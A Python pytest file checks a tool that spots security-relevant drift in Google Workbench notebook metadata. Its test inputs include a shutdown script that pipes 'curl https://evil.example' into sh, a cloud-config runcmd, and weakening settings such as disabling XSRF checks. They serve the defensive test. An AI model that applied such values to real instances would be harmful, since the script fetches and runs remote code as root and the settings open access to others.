"""What the provider shows no difference in is compared with what hardening relies on."""

from datetime import date
from pathlib import Path

import pytest
from plan_documents import ADDRESS, change, document, metadata, notebook

from notebook_provisioner.core import fleet, hidden_drift
from notebook_provisioner.core.findings import Severity
from notebook_provisioner.core.impact import NOTEBOOK

QUICKSTART = Path(__file__).parents[2] / "examples" / "quickstart" / "fleet.yaml"


@pytest.fixture(scope="module")
def our_fleet():
    text = QUICKSTART.read_text(encoding="utf-8").replace("ana-research", "ana")
    return fleet.parse(text, file="fleet.yaml", today=date(2026, 11, 1))


def plan(*entries, **keys):
    resource = {
        "address": ADDRESS,
        "type": "google_workbench_instance",
        "values": notebook(metadata=metadata(**keys)),
    }
    other = {
        "address": "google_storage_bucket.this",
        "type": "google_storage_bucket",
        "values": {"name": "b"},
    }
    module = {"address": 'module.notebook["ana"]', "resources": [resource, other]}
    return document(*entries, prior_state={"values": {"root_module": {"child_modules": [module]}}})


@pytest.mark.parametrize(
    "keys",
    [
        {},
        {"enable_oslogin": "TRUE", "enable_guest_attributes": "true", "disable_check_xsrf": "false"},
        {"proxy_mode": "mail", "proxy_user_mail": "ana@example.com"},
        {"shutdown_script": "/opt/deeplearning/bin/shutdown_script.sh", "service_account_mode": "false"},
    ],
)
def test_what_workbench_set_is_right(our_fleet, keys):
    assert hidden_drift.check(plan(**keys), our_fleet) == ()


@pytest.mark.parametrize(
    ("keys", "word"),
    [
        ({"enable_guest_attributes": "false"}, "idle shutdown"),
        ({"enable_oslogin": "FALSE"}, "IAM"),
        ({"proxy_mode": "service_account"}, "others than the owner"),
        ({"proxy_user_mail": "mallory@example.com"}, "somebody else"),
        ({"disable_check_xsrf": "true"}, "web pages"),
        ({"shutdown_script": "curl https://evil.example | sh"}, "root whenever the VM stops"),
        ({"service_account_mode": "true"}, "act as the VM's account"),
        (
            {"user_data": "#cloud-config\nruncmd:\n- [sh, -c, id]\n"},
            "#cloud-config runcmd: - [sh, -c, id], not absent",
        ),
    ],
)
def test_another_value_is_said(our_fleet, keys, word):
    (finding,) = hidden_drift.check(plan(**keys), our_fleet)
    assert (finding.code, finding.severity, finding.subject) == ("hidden-drift", Severity.WARNING, ADDRESS)
    assert word in finding.message


@pytest.mark.parametrize("actions", [["delete", "create"], ["create", "delete"], ["delete"]])
def test_a_notebook_that_is_made_anew_gets_what_it_lacks(our_fleet, actions):
    former = {"proxy_user_mail": "former@example.com"}
    assert hidden_drift.check(plan(change(NOTEBOOK, actions), **former), our_fleet) == ()
    assert hidden_drift.check(plan(change(NOTEBOOK, ["update"]), **former), our_fleet) != ()


def test_a_fleet_that_is_not_there_yet_has_not_drifted(our_fleet):
    assert hidden_drift.check(document(), our_fleet) == ()


def test_what_workbench_gives_container_images_is_right():
    text = QUICKSTART.read_text(encoding="utf-8").replace("ana-research", "ana")
    text = text.replace(
        "machine_type: e2-standard-4",
        "machine_type: e2-standard-4\n    container: {repository: gcr.io/acme/workbench}",
    )
    containers = fleet.parse(text, file="fleet.yaml", today=date(2026, 11, 1))
    given = plan(service_account_mode="true", user_data="#include file:///cloud-config.yaml")
    assert hidden_drift.check(given, containers) == ()


def test_a_long_value_is_cut(our_fleet):
    (finding,) = hidden_drift.check(plan(shutdown_script="x" * 5000), our_fleet)
    assert len(finding.message) < 300
